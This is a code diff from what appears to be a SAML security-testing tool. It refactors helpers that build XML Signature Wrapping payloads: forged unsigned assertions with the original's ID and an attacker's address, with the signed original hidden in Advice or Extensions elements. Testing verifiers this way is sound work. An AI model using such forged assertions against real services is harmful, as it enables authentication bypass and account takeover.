@@ -206,6 +206,16 @@ def tampered(xml, ctx):
     return serialize(response)
 
 
+def swap_in_evil_copy(response, original, ctx):
+    """Puts an unsigned copy of the signed assertion (same ID, mallory's address) where the
+    original was, and detaches the original so the caller can hide it elsewhere."""
+    evil = evil_copy(original, ctx, same_id=True)
+    original.addprevious(evil)
+    response.remove(original)
+    original.tail = None
+    return evil
+
+
 def xsw_sibling(xml, ctx):
     response = parse(xml)
     drop_response_signature(response)
@@ -218,10 +228,7 @@ def xsw_advice(xml, ctx):
     response = parse(xml)
     drop_response_signature(response)
     original = the_assertion(response)
-    evil = evil_copy(original, ctx, same_id=True)
-    original.addprevious(evil)
-    response.remove(original)
-    original.tail = None
+    evil = swap_in_evil_copy(response, original, ctx)
     advice = etree.Element(q("saml", "Advice"))
     advice.append(original)
     # Advice comes after Issuer, Signature, Subject and Conditions in an Assertion.
@@ -238,10 +245,7 @@ def xsw_extensions(xml, ctx):
     response = parse(xml)
     drop_response_signature(response)
     original = the_assertion(response)
-    evil = evil_copy(original, ctx, same_id=True)
-    original.addprevious(evil)
-    response.remove(original)
-    original.tail = None
+    swap_in_evil_copy(response, original, ctx)
     extensions = etree.Element(q("samlp", "Extensions"))
     extensions.append(original)
     # Extensions comes after Issuer and Signature in a Response.
